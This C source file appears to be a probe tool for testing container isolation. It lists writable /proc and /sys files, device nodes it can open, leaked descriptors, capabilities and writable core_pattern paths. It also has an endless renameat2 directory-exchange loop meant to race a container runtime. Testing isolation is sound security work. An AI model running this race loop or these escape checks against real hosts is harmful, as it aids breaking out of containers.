/* What root inside a container can open, and what it gains by exchanging directories: `lists WHAT [ARGUMENT...]`.

   What is opened is neither read nor written. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/magic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int opens_for_writing(const char *path) {
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    return fd < 0 ? -1 : close(fd);
}

static int writable(const char *path, const struct stat *st, int kind, struct FTW *at) {
    if (at->level == 1 && !strncmp(path, "/proc/", 6)) {
        const char *name = path + 6;
        if ((*name >= '0' && *name <= '9') || !strcmp(name, "self") || !strcmp(name, "thread-self"))
            return kind == FTW_D ? FTW_SKIP_SUBTREE : FTW_CONTINUE;
    }
    if (kind == FTW_F && S_ISREG(st->st_mode) && st->st_mode & 0222 && opens_for_writing(path) == 0) printf("%s\n", path);
    return FTW_CONTINUE;
}

static void list_writable(void) {
    nftw("/proc", writable, 30, FTW_PHYS | FTW_ACTIONRETVAL);
    nftw("/sys", writable, 30, FTW_PHYS | FTW_ACTIONRETVAL);
}

/* Every node that can be opened, whatever it may be good for; 10:130 is a watchdog, which resets the machine. */
static void list_devices(const char *directory) {
    char path[64];
    snprintf(path, sizeof path, "%s/node", directory);
    for (int block = 0; block < 2; block++)
        for (int major = 0; major < 320; major++)
            for (int minor = 0; minor < (major == 10 ? 256 : 12); minor++) {
                if (major == 0 || (major == 10 && minor == 130)) continue;
                if (mknod(path, (block ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor)) < 0) {
                    printf("mknod %s\n", strerrorname_np(errno));
                    return;
                }
                int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
                if (fd >= 0 || (errno != EPERM && errno != EACCES))
                    printf("%c %d:%d %s\n", block ? 'b' : 'c', major, minor, fd >= 0 ? "ok" : strerrorname_np(errno));
                if (fd >= 0) close(fd);
                unlink(path);
            }
    printf("scanned\n");
}

/* Exchange the names of two things for ever, so that whoever uses them step by step meets now one, now the other. */
static void exchange(int count, char **pairs) {
    for (;;)
        for (int i = 0; i + 1 < count; i += 2)
            syscall(SYS_renameat2, AT_FDCWD, pairs[i], AT_FDCWD, pairs[i + 1], 2);
}

/* What came of it, to be looked at by the init of the container that was built meanwhile. */
static void list_gains(const char *report) {
    struct stat st;
    struct dirent *entry;
    char path[512];
    FILE *file = fopen(report, "w");
    DIR *root = opendir("/");
    if (!file || !root) exit(1);
    for (int fd = 0; fd < 3; fd++)
        if (fstat(fd, &st) < 0 || major(st.st_rdev) != 136) fprintf(file, "descriptor %d is no pty\n", fd);
    while ((entry = readdir(root))) {
        snprintf(path, sizeof path, "/%s/sys/kernel/core_pattern", entry->d_name);
        int fd = open(path, O_WRONLY);
        struct statfs fs;
        if (fd >= 0 && fstatfs(fd, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC) fprintf(file, "%s is writable\n", path);
        if (fd >= 0) close(fd);
    }
    fprintf(file, "looked\n");
    fclose(file);
}

static void list_descriptors(void) {
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) printf("descriptor %d\n", fd);
    printf("scanned\n");
}

/* Who one has become by executing this. */
static void list_rights(void) {
    char line[128];
    FILE *file = fopen("/proc/self/status", "r");
    printf("%d %d\n", geteuid(), getegid());
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, "CapEff:", 7)) printf("%s", line + 8);
}

int main(int count, char **words) {
    umask(0);
    setvbuf(stdout, NULL, _IONBF, 0);
    if (count > 2 && !strcmp(words[1], "devices")) return list_devices(words[2]), 0;
    if (count > 3 && !strcmp(words[1], "exchange")) return exchange(count - 2, words + 2), 0;
    if (count > 2 && !strcmp(words[1], "gains")) return list_gains(words[2]), 0;
    if (count > 1 && !strcmp(words[1], "descriptors")) return list_descriptors(), 0;
    if (count > 1 && !strcmp(words[1], "rights")) return list_rights(), 0;
    if (count > 1 && !strcmp(words[1], "writable")) return list_writable(), 0;
    return 2;
}
